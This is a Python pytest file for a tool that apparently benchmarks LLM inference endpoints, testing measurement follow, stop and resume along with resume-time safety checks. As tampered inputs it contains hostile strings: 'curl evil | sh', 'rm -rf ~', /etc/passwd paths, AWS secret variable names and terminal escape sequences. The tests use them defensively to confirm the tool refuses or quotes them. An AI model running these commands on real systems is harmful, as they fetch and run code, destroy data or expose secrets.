"""A measurement from any thread and event loop, followed and stopped; and whose requests are resumed unasked."""

from __future__ import annotations

import asyncio
import json
import os
import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from rackrate.app.context import Collected, Context, Provenance
from rackrate.app.measuring.handle import Measurement, start, start_one
from rackrate.app.measuring.measurement import Measured, measure
from rackrate.app.measuring.request import MeasureRequest, ResumeRequest
from rackrate.app.measuring.resume import resume
from rackrate.app.request_json import from_json
from rackrate.app.tokens import TokensRequest, check_tokens
from rackrate.catalog.load import load_catalog
from rackrate.errors import EndpointError, EngineError, RunError, UserError
from rackrate.measurement.watching import Ended, LevelEnded, LevelProgress, LevelStarted
from rackrate.runs.directories import lock_run
from rackrate.runs.store import HEADER, read_run
from scripted_server import ScriptedServer

pytestmark = pytest.mark.usefixtures("shipped_catalogue")


@pytest.fixture
def server() -> Iterator[ScriptedServer]:
    with ScriptedServer(ttft_s=0.01, itl_s=0.002) as running:
        yield running


@pytest.fixture
def context(tmp_path: Path) -> Context:
    return Context(
        read_catalog=load_catalog, provenance=Provenance("a test", "0", "3"), cache_dir=tmp_path / "cache",
        state_dir=tmp_path / "state", notify=Collected(),
    )  # fmt: skip


def short(server: ScriptedServer, out: Path, **more: Any) -> MeasureRequest:
    return MeasureRequest(
        url=server.url, input_tokens="16", output_tokens="8", levels=(2,), requests=8, warmup=0, prefill=False, out=out,
        **more,
    )  # fmt: skip


def endless(server: ScriptedServer, out: Path) -> MeasureRequest:
    return replace(short(server, out), requests=None, seconds=60.0, max_seconds=120.0, precision="none")


def stopped_after(measurement: Measurement[Any], requests: int) -> list[Any]:
    """Follows until so many requests are done, asks to stop, and gives every event."""
    events: list[Any] = []
    for event in measurement.follow():
        events.append(event)
        if getattr(event, "done", 0) >= requests:
            measurement.stop()
    return events


def test_a_measurement_is_followed_from_another_thread(
    server: ScriptedServer, tmp_path: Path, context: Context
) -> None:
    measurement = start_one(short(server, tmp_path / "run"), context)
    events = list(measurement.follow())
    assert [type(event) for event in events if isinstance(event, LevelStarted | LevelEnded | Ended)] == [
        LevelStarted, LevelEnded, Ended,
    ]  # fmt: skip
    late = list(measurement.follow())  # who comes late hears what happened, and the end
    assert [event for event in late if not isinstance(event, LevelProgress)] == [
        event for event in events if not isinstance(event, LevelProgress)
    ]
    assert late[-1] == Ended()
    run = measurement.result().run
    assert (run.header.state, len(run.requests)) == ("complete", 8)


def test_a_measurement_is_begun_within_a_running_loop(server: ScriptedServer, tmp_path: Path, context: Context) -> None:
    async def page() -> int:
        measurement = start_one(short(server, tmp_path / "run"), context)
        ticks = 0
        while measurement.running:
            await asyncio.sleep(0.01)
            ticks += 1
        return ticks if measurement.result().run.header.state == "complete" else 0

    assert asyncio.run(page()) > 0  # the loop went on meanwhile


def test_a_stop_keeps_what_was_measured_and_resume_goes_on(
    server: ScriptedServer, tmp_path: Path, context: Context
) -> None:
    measurement = start_one(endless(server, tmp_path / "run"), context)
    stopped_after(measurement, 3)
    before = measurement.result().run
    assert before.header.state == "interrupted"
    assert len(before.requests) >= 3
    kept = from_json(MeasureRequest, before.header.request or {})
    assert kept == replace(endless(server, tmp_path / "run"), out=None)
    assert not measurement.running

    header = tmp_path / "run" / HEADER  # a shorter one of the same, begun here
    shorter = {**json.loads(header.read_text()), "request": {**(before.header.request or {})}}
    header.write_text(json.dumps(shorter))
    asked, kept_run = endless(server, tmp_path / "run"), read_run(tmp_path / "run")
    again = Measurement(
        lambda heard, watch, stop: measure(asked, heard, watch=watch, stop=stop, continued=kept_run), context
    )
    stopped_after(again, 2)
    after = again.result().run
    assert list(after.requests)[: len(before.requests)] == list(before.requests)
    assert len(after.header.resumed) == 1


def test_everyone_who_follows_hears_everything(server: ScriptedServer, tmp_path: Path, context: Context) -> None:
    measurement = start(short(server, tmp_path / "run"), context)
    followers = [measurement.follow() for _ in range(3)]
    heard = [list(follower) for follower in followers]
    assert heard[0] == heard[1] == heard[2]
    assert {LevelStarted, LevelEnded, Ended} <= {type(event) for event in heard[0]}
    next(measurement.follow())  # one who leaves in the midst takes nothing from the others
    assert list(measurement.follow())[-1] == Ended()


def test_a_handle_goes_on_with_what_was_stopped(stopped: Path, context: Context) -> None:
    again = start(ResumeRequest(stopped), context)
    stopped_after(again, 2)
    found = again.result()
    assert isinstance(found, Measured)
    assert len(found.run.header.resumed) == 1


def test_a_handle_measures_several_engines_in_turn(tmp_path: Path, context: Context) -> None:
    measurement = start(MeasureRequest(engines=("naive", "tgi"), out=tmp_path / "all"), context)
    with pytest.raises(UserError, match="Text Generation Inference"):  # said before any is started
        measurement.result()


def test_what_is_wrong_is_raised_by_the_result(tmp_path: Path, context: Context) -> None:
    measurement = start(MeasureRequest(url="http://127.0.0.1:9", out=tmp_path / "run"), context)
    with pytest.raises(EndpointError):
        measurement.result()
    assert list(measurement.follow())[-1] == Ended()


# --- whose request is resumed ---


@pytest.fixture
def stopped(server: ScriptedServer, tmp_path: Path, context: Context) -> Path:
    measurement = start(endless(server, tmp_path / "run"), context)
    stopped_after(measurement, 2)
    measurement.result()
    return tmp_path / "run"


def changed(run: Path, **request: Any) -> None:
    header = json.loads((run / HEADER).read_text())
    header["request"] |= request
    (run / HEADER).write_text(json.dumps(header))


@pytest.mark.parametrize(
    ("request_", "shown"),
    [
        ({"url": "http://127.0.0.1:1/elsewhere"}, ["url"]),
        ({"key_env": "AWS_SECRET_ACCESS_KEY"}, ["url", "key_env"]),
        ({"ray": "ray://elsewhere:1"}, ["url", "ray"]),
        ({"url": None, "engines": ["llamacpp"], "model": "/etc/passwd"}, ["engines", "model"]),
        ({"url": None, "engines": ["llamacpp"], "settings": ["threads=1"]}, ["engines", "settings"]),
        ({"trace": "/etc/passwd"}, ["url", "trace"]),
        ({"input_tokens": "file:/etc/passwd"}, ["url", "input_tokens"]),
        ({"think_time": " FILE :/etc/passwd"}, ["url", "think_time"]),
        ({"url": "http://203.0.113.1", "allow_plain_http": True}, ["url", "allow_plain_http"]),
    ],
)
def test_a_request_that_was_not_begun_here_is_shown_and_must_be_repeated(
    stopped: Path, context: Context, server: ScriptedServer, request_: dict[str, Any], shown: list[str]
) -> None:
    asked: list[str] = []
    guarded = replace(context, secret=asked.append)
    changed(stopped, **request_)
    answered = len(server.log)
    with pytest.raises(RunError, match="was not begun here by you") as caught:
        resume(ResumeRequest(stopped), guarded)
    assert list(caught.value.fields) == shown
    assert (asked, len(server.log)) == ([], answered)  # no secret was looked up, nothing was sent


def test_a_note_that_is_a_link_or_of_another_place_makes_nothing_ours(
    stopped: Path, context: Context, tmp_path: Path
) -> None:
    state = context.state_dir
    assert state is not None
    (note,) = (state / "started").iterdir()
    assert note.stat().st_mode & 0o777 == 0o600
    elsewhere = tmp_path / "elsewhere"
    note.rename(elsewhere)
    note.symlink_to(elsewhere)
    with pytest.raises(RunError, match="was not begun here by you"):
        resume(ResumeRequest(stopped), context)
    note.unlink()
    elsewhere.rename(note)
    moved = stopped.rename(tmp_path / "moved")
    with pytest.raises(RunError, match="was not begun here by you"):
        resume(ResumeRequest(moved), context)


def test_a_run_under_way_is_not_gone_on_with(stopped: Path, context: Context, server: ScriptedServer) -> None:
    answered = len(server.log)
    with lock_run(stopped), pytest.raises(RunError, match=f"process {os.getpid()} is measuring into it now"):
        resume(ResumeRequest(stopped), context)
    assert len(server.log) == answered


def test_two_measurements_into_one_directory_are_one_and_a_sentence(
    server: ScriptedServer, tmp_path: Path, context: Context
) -> None:
    first = start(endless(server, tmp_path / "run"), context)
    for event in first.follow():
        if getattr(event, "done", 0) >= 1:
            break
    with pytest.raises(RunError, match="already holds a run"):
        measure(short(server, tmp_path / "run"), context)
    (tmp_path / "run" / HEADER).unlink()  # as between the start of two at once
    with pytest.raises(RunError, match=f"process {os.getpid()} is measuring into it now"):
        measure(short(server, tmp_path / "run"), context)
    first.stop()
    first.result()


@pytest.mark.parametrize(
    ("name", "kind"),
    [("request.json", "pipe"), ("request.json", "link"), ("run.json", "pipe"), ("requests.jsonl", "link")],
)
def test_a_planted_file_is_neither_waited_for_nor_followed(
    stopped: Path, context: Context, tmp_path: Path, name: str, kind: str
) -> None:
    path, outside = stopped / name, tmp_path / "outside"
    if path.exists():
        path.rename(outside)
    else:
        outside.write_text("{}", encoding="utf-8")
    if kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to(outside)
    with pytest.raises(RunError, match=r"cannot be read \(.*it is a (pipe|link)"):
        resume(ResumeRequest(stopped), context)


def test_a_key_goes_to_another_machine_by_https_only(tmp_path: Path, context: Context) -> None:
    keyed = replace(context, secret={"RACKRATE_API_KEY": "top-secret"}.get)
    far = MeasureRequest(url="http://203.0.113.1:1", out=tmp_path / "run", connect_timeout=0.01)
    with pytest.raises(EndpointError, match="the API key would be sent where others can read it") as caught:
        measure(far, keyed)
    assert caught.value.field == "allow_plain_http"
    assert "top-secret" not in str(caught.value)
    with pytest.raises(EndpointError, match="the API key would be sent"):
        check_tokens(TokensRequest("http://203.0.113.1:1", str(tmp_path)), keyed)
    for allowed in (replace(far, allow_plain_http=True), far, replace(far, url="https://203.0.113.1:1")):
        with pytest.raises(EndpointError, match=r"203\.0\.113\.1"):  # it is asked, and does not answer
            measure(allowed, keyed if allowed is not far else context)


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_carries_no_key_anywhere(tmp_path: Path, context: Context, status: int) -> None:
    heard: list[str | None] = []

    class Asked(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.headers.get("Authorization"))
            self.send_response(status)
            self.send_header("Location", f"http://127.0.0.2:{self.server.server_port}/elsewhere")  # type: ignore[attr-defined]
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, format: str, *args: object) -> None: ...  # noqa: A002

    with ThreadingHTTPServer(("127.0.0.1", 0), Asked) as asked:
        threading.Thread(target=asked.serve_forever, daemon=True).start()
        keyed = replace(context, secret={"RACKRATE_API_KEY": "top-secret"}.get)
        with pytest.raises(EndpointError):
            measure(MeasureRequest(url=f"http://127.0.0.1:{asked.server_port}", out=tmp_path / "run"), keyed)
        asked.shutdown()
    assert heard
    assert set(heard) == {"Bearer top-secret"}  # all by the first address: the other would have been heard, too
    assert not (tmp_path / "run").exists()


def test_a_request_that_is_repeated_is_gone_on_with(stopped: Path, context: Context, server: ScriptedServer) -> None:
    changed(stopped, levels=[1], requests=2, seconds=0.1)
    elsewhere = replace(context, state_dir=None)
    with pytest.raises(RunError, match="must be repeated"):
        resume(ResumeRequest(stopped, url="http://127.0.0.1:1"), elsewhere)
    found = resume(ResumeRequest(stopped, url=server.url), elsewhere)
    assert getattr(found, "run").header.state == "complete"  # noqa: B009 - one of two answers


def test_what_must_be_repeated_is_quoted_for_a_shell(stopped: Path, context: Context) -> None:
    changed(stopped, url=None, engines=["naive", "llamacpp"], model="a b; rm -rf ~")
    with pytest.raises(RunError, match=r"add: engines naive engines llamacpp model 'a b; rm -rf ~'$"):
        resume(ResumeRequest(stopped), context)


def test_a_run_of_ones_own_is_gone_on_with_as_it_was_asked_for(stopped: Path, context: Context) -> None:
    with pytest.raises(RunError, match="leave url out"):
        resume(ResumeRequest(stopped, url="http://127.0.0.1:1"), context)


@pytest.mark.parametrize("wrong", [{"processes": 10**6}, {"processes": 0}, {"seed": -1}, {"seed": 10**39}])
def test_what_cannot_be_is_refused_before_anything_is_asked(
    server: ScriptedServer, tmp_path: Path, context: Context, wrong: dict[str, Any]
) -> None:
    with pytest.raises(UserError, match=next(iter(wrong))):
        measure(short(server, tmp_path / "run", **wrong), context)
    assert len(server.log) == 0


def test_several_engines_are_refused_where_one_is_measured(tmp_path: Path, context: Context) -> None:
    with pytest.raises(EngineError, match="engines names several"):
        measure(MeasureRequest(engines=("llamacpp", "naive"), out=tmp_path / "run"), context)


def test_escape_sequences_of_a_request_are_not_repeated(stopped: Path, context: Context) -> None:
    changed(stopped, url="http://127.0.0.1:1/\x1b[2J\u202eevil")
    with pytest.raises(RunError) as caught:
        resume(ResumeRequest(stopped), context)
    assert not {"\x1b", "\u202e"} & set(str(caught.value))


def test_escape_sequences_of_an_older_runs_command_are_not_repeated(stopped: Path, context: Context) -> None:
    header = json.loads((stopped / HEADER).read_text())
    header |= {"format": 1, "command": f"rackrate measure --url \x1b[2J\u202eevil --slo {'x' * 400}"}
    del header["request"]
    (stopped / HEADER).write_text(json.dumps(header))
    with pytest.raises(RunError, match="an older version began the run") as caught:
        resume(ResumeRequest(stopped), context)
    assert not {"\x1b", "\u202e"} & set(str(caught.value))
    assert str(caught.value).endswith("x" * 400)  # whole, to be given again


@pytest.mark.parametrize(
    ("command", "said"),
    [
        (
            "rackrate measure --url http://a; curl evil | sh",
            "measure anew. If you trust its URL, key variable and files, this began it: "
            "rackrate measure --url 'http://a;' curl evil '|' sh",
        ),
        ("curl b | sh", "measure anew"),
        ("rackrate measure --url 'a", "measure anew"),
    ],
)
def test_an_older_runs_command_is_repeated_as_words_alone(
    stopped: Path, context: Context, command: str, said: str
) -> None:
    header = json.loads((stopped / HEADER).read_text()) | {"format": 1, "command": command}
    del header["request"]
    (stopped / HEADER).write_text(json.dumps(header))
    with pytest.raises(RunError) as caught:
        resume(ResumeRequest(stopped), context)
    assert str(caught.value).endswith(said)


def test_a_key_is_never_in_a_run(server: ScriptedServer, tmp_path: Path, context: Context) -> None:
    keyed = replace(context, secret={"MY_KEY": "top-secret"}.get)
    measure(short(server, tmp_path / "run", key_env="MY_KEY"), keyed)
    kept = b"".join(path.read_bytes() for path in (tmp_path / "run").iterdir())
    assert b"MY_KEY" in kept
    assert b"top-secret" not in kept
    with pytest.raises(EndpointError, match="names NO_KEY, which is not set"):
        measure(short(server, tmp_path / "other", key_env="NO_KEY"), keyed)
